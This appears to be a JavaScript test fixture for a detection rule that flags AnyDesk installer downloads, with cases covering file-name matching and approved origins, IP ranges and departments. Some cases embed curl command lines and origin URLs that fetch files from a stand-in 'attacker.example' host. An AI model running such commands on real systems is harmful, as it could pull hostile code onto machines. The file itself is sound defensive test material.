// SPDX-License-Identifier: MIT
// files.kql: installers and packages by their names.
'use strict';

const groups = { d1: 'Helpdesk', d2: 'Finance' };
const msi = { FileName: 'AnyDesk-Setup.msi' };
const hit = { Tool: 'AnyDesk', File: 'anydesk-setup.msi' };
const ours = { tool: 'AnyDesk', host: 'software.corp.example' };

function files(proves, events, rows, approvals) {
	return { proves, query: 'files', groups, approvals,
		events: { DeviceFileEvents: [events].flat() }, rows };
}

module.exports = [
	files('a listed file alerts, in any case', msi,
		[{ ...hit, Events: 1, ReportId: 100, AccountName: 'Ann' }]),
	files('a second download is the same',
		[{ FileName: 'AnyDesk-Setup (1).msi' },
			{ FileName: 'AnyDesk-Setup(12).msi' }], [{ ...hit, Events: 2 }]),
	files('another file in brackets is not',
		[{ FileName: 'AnyDesk-Setup (copy).msi' },
			{ FileName: 'Setup (1).msi' }], []),
	files('only the whole name counts', [{ FileName: 'x-AnyDesk-Setup.msi' },
		{ FileName: 'AnyDesk-Setup.msi.part' }], []),
	files('processes are not files', { FileName: 'AnyDesk.exe' }, []),
	files('events before the time looked at are left out',
		{ ...msi, ago: 13 * 3600 }, []),
	files('one row for each device and file', [msi,
		{ ...msi, ActionType: 'FileDeleted', ago: 60 },
		{ ...msi, DeviceId: 'd2' }],
	[{ DeviceId: 'd1', Events: 2, ActionType: 'FileDeleted' },
		{ DeviceId: 'd2' }]),
	files('the approved origin is silent', { ...msi,
		FileOriginUrl: 'https://software.corp.example/a.msi' }, [], [ours]),
	files('another origin alerts', { ...msi,
		FileOriginUrl: 'https://download.anydesk.com/a.msi' },
	[{ ...hit, Hosts: ['download.anydesk.com'] }], [ours]),
	files('the origin decides, whatever the command line names', { ...msi,
		FileOriginUrl: 'https://attacker.example/a.msi',
		InitiatingProcessCommandLine: 'curl https://software.corp.example/' },
	[hit], [ours]),
	files('without one the command line does', { ...msi,
		FileOriginUrl: 'about:internet', InitiatingProcessCommandLine:
			'curl -O https://software.corp.example/a.msi' }, [], [ours]),
	files('every host of it', { ...msi, InitiatingProcessCommandLine:
		'curl https://software.corp.example/a https://attacker.example/b' },
	[hit], [ours]),
	files('an approved address is silent', { ...msi,
		FileOriginIP: '203.0.113.9' }, [], [{ host: '203.0.113.0/24' }]),
	files('the approved department is silent and the others are not',
		[msi, { ...msi, DeviceId: 'd2' }], [{ DeviceId: 'd2' }],
		[{ device_group: 'Helpdesk' }]),
];
